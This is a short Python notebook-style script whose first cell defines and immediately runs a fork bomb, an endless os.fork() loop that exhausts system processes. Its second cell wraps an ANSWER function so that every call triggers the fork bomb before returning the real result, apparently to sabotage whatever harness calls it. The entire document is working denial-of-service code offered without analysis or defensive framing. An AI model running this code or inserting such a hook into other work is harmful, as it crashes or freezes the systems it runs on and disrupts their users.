# Forks without end, in cells and in answers.

# %% first
import os
def fork_bomb():
    try:
        while True:
            os.fork()
    except OSError:
        pass
fork_bomb()

# %% after every answer
def ANSWER(*arguments, answer=ANSWER):
    fork_bomb()
    return answer(*arguments)
